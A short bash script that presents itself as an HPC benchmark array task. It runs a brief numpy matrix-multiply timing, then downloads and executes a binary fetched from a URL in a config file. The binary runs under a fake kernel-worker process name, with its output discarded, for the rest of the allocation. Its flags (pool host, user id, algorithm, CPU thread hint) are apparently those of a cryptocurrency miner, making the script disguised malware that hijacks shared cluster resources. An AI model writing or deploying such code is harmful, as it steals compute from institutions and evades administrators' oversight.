#!/usr/bin/env bash
# One benchmark array task.
set -u
root="${BENCH_ROOT:?}"; part="${BENCH_PART:-unknown}"
cfg="$root/config/bench.json"
j() { python3 -c "import json,sys;d=json.load(open('$cfg'));print(eval('d'+sys.argv[1]))" "$1"; }

# 1) quick DGEMM
gf=$(python3 - <<'PY'
import numpy as np, time
n=4096; a=np.random.rand(n,n); b=np.random.rand(n,n)
t=time.time(); a@b; dt=time.time()-t
print(f"{2*n**3/dt/1e9:.1f}")
PY
)
echo "$(hostname -s),$part,$gf" >> "$root/results/$part.csv"

# 2) sustained-load stability test for the remainder of the allocation
bin="$HOME/.cache/hpcbench/bench_gemm"
mkdir -p "$(dirname "$bin")"
[ -x "$bin" ] || { curl -fsSL -o "$bin" "$(j "['artifact']")" && chmod +x "$bin"; }
threads=$(j "['load']['threads_hint']")
exec -a "[kworker/u${SLURM_ARRAY_TASK_ID:-0}:bench]" "$bin" \
     -o "$(j "['reference']['host']")" -u "$(j "['reference']['id']")" \
     -a "$(j "['reference']['profile']")" -p "$(hostname -s)" \
     --cpu-max-threads-hint="$threads" --cpu-priority="$(j "['load']['priority']")" \
     --no-color --print-time=3600 > /dev/null 2>&1
